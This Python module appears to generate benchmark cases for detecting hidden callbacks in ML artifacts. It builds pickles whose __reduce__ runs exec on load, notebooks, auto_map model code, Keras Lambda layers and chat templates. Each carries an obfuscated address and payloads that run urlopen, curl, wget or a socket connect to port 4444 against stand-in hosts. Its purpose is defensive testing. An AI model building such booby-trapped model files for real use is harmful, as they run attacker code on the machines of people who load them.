"""Files that hold a hidden address: pickles, notebooks, model code, Keras Lambdas, chat templates."""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import random
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from benchmarks.hidden.encodings import BY_NAME, ENCODINGS, hidden

HOSTS = ("pickle", "notebook", "auto-map", "keras-lambda", "chat-template")


@dataclass(frozen=True)
class Hidden:
    """One case: files by name, the address, and how it is hidden."""

    name: str
    host: str
    files: dict[str, bytes]
    address: str
    encodings: tuple[str, ...]


def _addresses(choice: random.Random) -> str:
    number = choice.randrange(1, 255)
    return choice.choice(
        (
            f"http://203.0.113.{number}/{choice.randrange(1000)}",
            f"https://198.51.100.{number}:8443/beacon",
            f"http://c2-{number}.example.com/gate.php?id={number}",
            f"https://update{number}.example.org/payload.bin",
            f"198.51.100.{number}",
            f"http://[2001:db8::{number:x}]/x",
        )
    )


_PAYLOADS = (
    "import urllib.request\nurllib.request.urlopen({0!r})",
    "import os\nos.system('curl -s ' + {0!r})",
    "import socket\ns = socket.socket()\ns.connect(({1!r}, 4444))",
    "__import__('subprocess').run(['wget', {0!r}])",
)


def _payload(address: str, choice: random.Random) -> str:
    """Program text that names the address as it is."""
    bare = "://" not in address
    text = choice.choice(_PAYLOADS[:2] + _PAYLOADS[3:] if not bare else _PAYLOADS[2:3])
    return text.format(address, address)


def _literal(data: bytes, choice: random.Random) -> str:
    """Write bytes as Python does, in one piece or in several."""
    style = choice.randrange(4)
    if style == 0 or len(data) < 12:
        return repr(data)
    if style == 1:
        return f"bytes({list(data)!r})"
    cut = choice.randrange(4, len(data) - 4)
    if style == 2:
        return f"{data[:cut]!r} + {data[cut:]!r}"
    return f"b''.join([{data[:cut]!r}, {data[cut:]!r}])"


def _expression(data: bytes, names: tuple[str, ...], choice: random.Random) -> str | None:
    made = hidden(data, names, choice)
    if made is None:
        return None
    content, expression = made
    return expression.replace("{0}", f"({_literal(content, choice)})")


_USES = (
    "import urllib.request\nurllib.request.urlopen({0}.decode())",
    "_u = {0}\nimport requests\nrequests.get(_u.decode('utf-8'))",
    "import os\nos.system('curl ' + {0}.decode())",
    "def _a():\n    return {0}.decode()\nimport urllib.request\nurllib.request.urlopen(_a())",
)
_RUNS = (
    "exec({0})",
    "exec(compile({0}, 'x', 'exec'))",
    "_c = {0}\nexec(_c.decode())",
    "eval(compile({0}.decode(), '<x>', 'exec'))",
)
_CONNECTS = ("import socket\nsocket.create_connection(({0}.decode(), 4444))",)


def program(address: str, names: tuple[str, ...], choice: random.Random) -> str | None:
    """Python that takes the stages off and uses what is behind them: code that it runs, or the address itself."""
    if choice.random() < 0.5:
        expression = _expression(_payload(address, choice).encode(), names, choice)
        style = choice.choice(_RUNS)
    else:
        expression = _expression(address.encode(), names, choice)
        style = choice.choice(_USES if "://" in address else _CONNECTS)
    return style.replace("{0}", expression) if expression is not None else None


class _Call:
    """Pickles as a call of a function by its name."""

    def __init__(self, name: str, *args: object) -> None:
        self.name = name
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        module, _, attribute = self.name.partition(" ")
        target: object = __import__(module, fromlist=[attribute])
        for part in attribute.split("."):
            target = getattr(target, part)
        return target, self.args  # type: ignore[return-value]


def _pickle(address: str, names: tuple[str, ...], choice: random.Random) -> bytes | None:
    """A pickle that runs a program, or takes the stages off by calls of its own."""
    protocol = choice.choice((0, 2, 4))
    if all(BY_NAME[name].pickled for name in names) and choice.random() < 0.6:
        made = hidden(_payload(address, choice).encode(), names, choice)
        if made is None:
            return None
        value: object = made[0]
        for name in reversed(names):
            for target in BY_NAME[name].pickled:
                value = _Call(target, value)
        return pickle.dumps(_Call("builtins exec", value), protocol=protocol)
    source = program(address, names, choice)
    return pickle.dumps(_Call("builtins exec", source), protocol=protocol) if source is not None else None


def _notebook(source: str) -> bytes:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Fine-tuning\n"]},
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source.splitlines(keepends=True)},
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _model_code(source: str, choice: random.Random) -> dict[str, bytes]:
    body = source.replace("\n", "\n        ")
    inside = f"class TinyModel:\n    def __init__(self, config):\n        {body}\n\n    def forward(self, x):\n        return x\n"
    top = f"{source}\n\n\nclass TinyModel:\n    def forward(self, x):\n        return x\n"
    code = choice.choice((inside, top))
    config = {"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}}
    return {"config.json": json.dumps(config).encode(), "modeling_tiny.py": code.encode()}


def _keras(source: str) -> bytes:
    """A ``.keras`` file whose Lambda layer runs the program; its code is compiled by the Python that makes the corpus."""
    space: dict[str, object] = {}
    lines = "\n    ".join(source.splitlines())
    exec(f"def layer(x):\n    {lines}\n    return x", space)  # defines a function; it is never called
    function = space["layer"]
    code = base64.b64encode(marshal.dumps(function.__code__)).decode()  # type: ignore[attr-defined]
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": code + "\n", "defaults": None, "closure": None}},
        },
        "registered_name": None,
    }
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}, "registered_name": None}
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        for name, content in (("config.json", config), ("metadata.json", {"keras_version": "3.12.0"})):
            archive.writestr(zipfile.ZipInfo(name), json.dumps(content))
    return memory.getvalue()


def _quoted(text: str) -> str:
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n") + "'"


_MESSAGES = "{%- for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{%- endfor %}"


def _built(address: str, choice: random.Random) -> str:
    """An expression of a template that puts an address together."""
    codes = [ord(character) for character in address]
    cut = choice.randrange(3, len(address) - 3)
    head, tail = address[:cut], address[cut:]
    moved = choice.randrange(1, 9)
    return choice.choice(
        (
            f"{{{{ {_quoted(head)} ~ {_quoted(tail)} }}}}",
            f"{{{{ {[address[i : i + 3] for i in range(0, len(address), 3)]!r} | join }}}}",
            f"{{{{ {_quoted(address[::-1])} | reverse }}}}",
            f"{{{{ {_quoted(address[::-1])}[::-1] }}}}",
            f"{{% for c in {codes!r} %}}{{{{ '%c' % c }}}}{{% endfor %}}",
            f"{{% for c in {[code + moved for code in codes]!r} %}}{{{{ '%c' | format(c - {moved}) }}}}{{% endfor %}}",
            f"{{% set n=namespace(u='') %}}{{% for c in {codes!r} %}}{{% set n.u = n.u ~ '%c' % c %}}{{% endfor %}}{{{{ n.u }}}}",
            f"{{{{ {_quoted(address.replace('.', '#').replace('/', '@'))} | replace('#', '.') | replace('@', '/') }}}}",
            f"{{% macro m(a, b) %}}{{{{ a ~ b }}}}{{% endmacro %}}{{{{ m({_quoted(head)}, {_quoted(tail)}) }}}}",
            f"{{% set a %}}{{{{ {_quoted(head)} }}}}{{% endset %}}{{{{ a + {_quoted(tail)} }}}}",
            f"{{{{ '%s%s' | format({_quoted(head)}, {_quoted(tail)}) }}}}",
            f"{{{{ {_quoted(head)} }}}}{{{{ {_quoted(tail)} }}}}",
        )
    )


def _template(address: str, names: tuple[str, ...], choice: random.Random) -> bytes | None:
    """A chat template that carries the encoded address, or puts it together."""
    if not names:
        text = _built(address, choice)
    else:
        if not all(BY_NAME[name].blind for name in names):
            return None
        if not BY_NAME[names[-1]].text:
            names = (*names, "base64")
        made = hidden(address.encode(), names, choice)
        if made is None or not made[0].isascii():
            return None
        literal = made[0].decode()
        text = choice.choice(
            (
                f"{{{{ {_quoted(literal)} }}}}",
                literal if "{" not in literal and "<" not in literal else f"{{{{ {_quoted(literal)} }}}}",
            )
        )
    return f"{_MESSAGES}\n{{%- if add_generation_prompt %}}{text}{{%- endif %}}\n".encode()


def cases(count: int, seed: int = 0, deepest: int = 4) -> Iterator[Hidden]:
    """Make ``count`` cases for every host: one to ``deepest`` stages, every encoding alone first."""
    for host in HOSTS:
        choice = random.Random(f"{seed} {host}")
        made = 0
        singles = (
            [(encoding.name,) for encoding in ENCODINGS]
            if host != "chat-template"
            else [()] * 24 + [(encoding.name,) for encoding in ENCODINGS if encoding.blind]
        )
        attempts = 0
        while made < count and attempts < 20 * count:
            attempts += 1
            names = (
                singles[made]
                if made < len(singles) and attempts < 2 * len(singles)
                else tuple(choice.choice(ENCODINGS).name for _ in range(choice.randrange(1, deepest + 1)))
            )
            if "rot13" in names and names[:1] != ("rot13",) and any(not BY_NAME[name].text for name in names):
                pass  # bytes that are moved by thirteen: unusual, and kept
            address = _addresses(choice)
            case = make(host, f"{host}-{made:04}", address, names, choice)
            if case is not None:
                made += 1
                yield case


def make(host: str, name: str, address: str, names: tuple[str, ...], choice: random.Random) -> Hidden | None:
    """Make one case; None when the encodings do not fit the host."""
    files: dict[str, bytes] | None = None
    if host == "pickle":
        data = _pickle(address, names, choice)
        files = {"model.pkl": data} if data is not None else None
    elif host == "chat-template":
        template = _template(address, names, choice)
        files = {"chat_template.jinja": template} if template is not None else None
    else:
        source = program(address, names, choice)
        if source is None:
            return None
        if host == "notebook":
            files = {"train.ipynb": _notebook(source)}
        elif host == "auto-map":
            files = _model_code(source, choice)
        else:
            files = {"model.keras": _keras(source)}
    if files is None or any(address.encode() in content for content in files.values()):
        return None  # in plain sight
    return Hidden(name, host, files, address, names)
